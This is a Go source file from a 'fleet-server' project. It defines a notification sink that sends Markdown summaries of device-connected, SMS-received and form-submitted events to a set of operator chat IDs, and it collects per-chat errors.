package notify

import (
	"context"
	"errors"
	"fmt"

	"github.com/rs/zerolog/log"

	"github.com/fleetpanel/fleet-server/internal/models"
)

// Messenger sends Markdown text to an operator chat.
type Messenger interface {
	SendMarkdown(ctx context.Context, chatID int64, text string) error
}

// OperatorSink pushes device activity to the admin chats.
type OperatorSink struct {
	messenger Messenger
	chatIDs   []int64
}

// NewOperatorSink creates a sink that messages every chat in chatIDs.
func NewOperatorSink(m Messenger, chatIDs []int64) *OperatorSink {
	ids := make([]int64, len(chatIDs))
	copy(ids, chatIDs)
	return &OperatorSink{messenger: m, chatIDs: ids}
}

// Name implements Sink
func (s *OperatorSink) Name() string { return "operators" }

// Notifies reports whether operators are told about events of typ.
func (s *OperatorSink) Notifies(typ models.EventType) bool {
	switch typ {
	case models.EventTypeDeviceConnected, models.EventTypeSMSReceived, models.EventTypeFormSubmitted:
		return true
	}
	return false
}

// Deliver sends the event summary to each admin. One failing chat does
// not stop the others.
func (s *OperatorSink) Deliver(ctx context.Context, ev *models.Event) error {
	if !s.Notifies(ev.Type) || ev.Summary == "" {
		return nil
	}

	var errs []error
	for _, id := range s.chatIDs {
		if err := s.messenger.SendMarkdown(ctx, id, ev.Summary); err != nil {
			log.Debug().Err(err).Int64("chat_id", id).Msg("Operator notification failed")
			errs = append(errs, fmt.Errorf("chat %d: %w", id, err))
		}
	}
	return errors.Join(errs...)
}
